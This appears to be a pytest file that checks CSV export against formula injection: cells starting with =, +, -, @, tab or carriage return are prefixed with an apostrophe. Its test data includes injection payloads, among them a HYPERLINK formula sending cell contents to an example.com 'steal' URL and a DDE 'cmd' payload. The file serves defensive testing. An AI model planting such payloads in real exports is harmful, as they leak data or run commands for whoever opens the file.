"""A name in an exported CSV is never a formula (issue 33, OWASP's CSV injection): a spreadsheet
runs a cell that starts with = + - @ (or a tab or a carriage return) as a formula, so such a
text cell gets a leading '; numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from bpstudio.core.csvdata import spreadsheet_cell

FORMULAS = ['=HYPERLINK("http://example.com/steal?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_as_a_formula_is_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.5", "+5%", "-1,000", "7.5e-3", "cat", "a=b", "", "'=x",
                                  " =1", "−0.5"])
def test_numbers_and_other_text_are_as_written(text):
    assert spreadsheet_cell(text) == text


def test_the_runs_csv_names_its_runs_as_text(studio, tmp_path):
    """Twin runs named as formulas: each header cell of theirs starts with ', the main run's
    and the numbers are as they were."""
    s = studio()
    assert s.choose_preset("plane-moons")
    for k, name in enumerate(FORMULAS):
        assert s.runs.fork(name=name, learning_rate=0.1 + k / 100) is not None
    path = tmp_path / "runs.csv"
    assert s.runs.write_csv(str(path))
    with path.open(encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    main = s.runs.runs()[0][0]
    assert header[:5] == ["iteration", f"{main}: cost", f"{main}: test cost",
                          f"{main}: train accuracy", f"{main}: test accuracy"]
    twins = header[5:]
    assert len(twins) == 4 * len(FORMULAS)
    for k, name in enumerate(FORMULAS):
        assert twins[4 * k] == f"'{name}: cost" and all(
            cell.startswith("'" + name) for cell in twins[4 * k:4 * k + 4])
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header)
    for row in rows:  # the numbers: written as numbers
        assert all(cell == "" or float(cell) == float(cell) or cell == "nan" for cell in row)


def test_lesson_answers_keep_their_formula_guard(tmp_path):
    """The answers' CSV (a student's answer "=HYPERLINK(…)") goes through the same cell."""
    import io
    from datetime import datetime

    from bpstudio.core.lesson_answers import Answer, write_answers_csv

    fields = Answer.__dataclass_fields__
    values = {name: "x" for name in fields}
    values.update(given="@SUM(A1)", correct=False, app_value="-0.5", time=datetime(2026, 1, 1))
    out = io.StringIO()
    write_answers_csv(out, [Answer(**values)])
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert "'@SUM(A1)" in row and "-0.5" in row
